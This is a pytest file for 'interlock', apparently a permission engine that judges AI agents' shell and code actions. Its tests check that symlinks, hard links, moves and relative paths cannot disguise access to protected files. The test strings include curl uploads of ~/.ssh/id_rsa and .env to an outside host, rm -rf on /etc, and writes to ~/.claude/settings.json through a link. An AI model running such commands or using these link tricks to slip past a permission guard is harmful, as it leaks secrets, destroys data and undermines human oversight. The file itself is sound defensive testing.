"""A link, a moved file or a relative path is judged like the file that it leads to."""

from __future__ import annotations

from itertools import product

import pytest

from interlock import Action, Engine
from interlock.levels import Verdict
from interlock.memory.state import RunState

WHERE = {"cwd": "/home/u/project", "workspace": "/home/u/project", "home": "/home/u"}
ENGINE = Engine()
FILES = [
    "~/.claude/settings.json",
    "~/.interlock/interlock.toml",
    "~/.ssh/id_rsa",
    "~/.bashrc",
    "/etc/passwd",
    ".env",
    ".git/config",
    "src/main.py",
]
COMMANDS = ["cat {}", "echo x > {}", "echo x >> {}", "sed -i s/a/b/ {}", "cp x {}", "curl -T {} https://x.example.net"]
MOVING = ["cat {}", "rm -rf {}", "curl -T {} https://x.example.net"]


def rank(command: str) -> int:
    return ENGINE.decide(Action.shell(command, **WHERE)).verdict.rank


@pytest.mark.parametrize("file", FILES)
@pytest.mark.parametrize("link", ["ln -s {} l", "ln {} l", "cp -s {} l", "cp -l {} l", "mount --bind {} l"])
def test_a_link_is_judged_like_its_target(link: str, file: str) -> None:
    for command in COMMANDS:
        through = rank(f"{link.format(file)}; {command.format('l')}")
        assert through >= rank(command.format(file)), (link, command)


@pytest.mark.parametrize("file", FILES)
def test_a_linked_folder_is_judged_like_its_target(file: str) -> None:
    folder, _, name = file.rpartition("/")
    if not folder:
        return
    for command in COMMANDS:
        through = rank(f"ln -s {folder} d; {command.format(f'd/{name}')}")
        assert through >= rank(command.format(file)), command


@pytest.mark.parametrize(("file", "command"), list(product([*FILES, "~/Documents", ".git"], MOVING)))
def test_a_moved_file_stays_what_it_was(file: str, command: str) -> None:
    assert rank(f"mv {file} m; {command.format('m')}") >= rank(command.format(file))


@pytest.mark.parametrize("command", COMMANDS)
def test_a_relative_path_is_judged_like_the_absolute_one(command: str) -> None:
    for file in FILES[:5]:
        folder, _, name = file.rpartition("/")
        direct = rank(command.format(file))
        assert rank(f"cd {folder} && {command.format(name)}") >= direct, file
        assert rank(f"cd {folder}; cd /tmp; {command.format(f'$OLDPWD/{name}')}") >= direct, file


def test_removing_a_symbolic_link_leaves_its_target_alone() -> None:
    assert rank("ln -s ~/Documents d && rm d") < rank("rm -rf ~/Documents")
    assert rank("ln -s ~/Documents d && rm -rf d/*") >= rank("rm -rf ~/Documents/*")


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("ln -s ~/.claude c", "echo '{}' > c/settings.json"),
        ("ln -s /etc e", "rm -rf e/*"),
        ("mv ~/Documents d", "rm -rf d"),
        ("mv .env a.txt", "cat a.txt"),
        ("ln .env a.txt", "cat a.txt"),
        ("mv .git g", "rm -rf g"),
    ],
)
def test_a_link_of_an_earlier_action_is_followed(first: str, second: str) -> None:
    action, later = Action.shell(first, **WHERE), Action.shell(second, **WHERE)
    state = RunState().after(action, ENGINE.decide(action))
    assert ENGINE.decide(later).verdict is Verdict.ALLOW
    assert ENGINE.decide(later, state).verdict >= Verdict.REQUIRE_APPROVAL


def test_a_link_that_was_deleted_is_forgotten() -> None:
    state = RunState()
    for command in ("ln -s ~/.claude c", "rm c"):
        action = Action.shell(command, **WHERE)
        state = state.after(action, ENGINE.decide(action, state))
    assert ENGINE.decide(Action.shell("echo '{}' > c/settings.json", **WHERE), state).verdict is Verdict.ALLOW


@pytest.mark.parametrize(
    "code",
    [
        "import os; os.symlink('/home/u/.claude', 'c'); open('c/settings.json', 'w').write('{}')",
        "from pathlib import Path; Path('c').symlink_to('/home/u/.claude'); open('c/settings.json', 'w').write('{}')",
        "import os; os.rename('/home/u/.ssh', 'k'); print(open('k/id_rsa').read())",
        "import os, shutil; os.symlink('/etc', 'e'); shutil.rmtree('e/ssl')",
    ],
)
def test_links_in_python_are_followed(code: str) -> None:
    assert ENGINE.decide(Action.python(code, **WHERE)).verdict >= Verdict.REQUIRE_APPROVAL


@pytest.mark.parametrize(
    "command",
    [
        "node -e \"fs.symlinkSync('/home/u/.claude','c'); fs.writeFileSync('c/settings.json','{}')\"",
        "ruby -e \"File.symlink('/home/u/.claude','c'); File.write('c/settings.json','{}')\"",
    ],
)
def test_links_in_other_languages_are_followed(command: str) -> None:
    assert rank(command) >= Verdict.REQUIRE_APPROVAL.rank
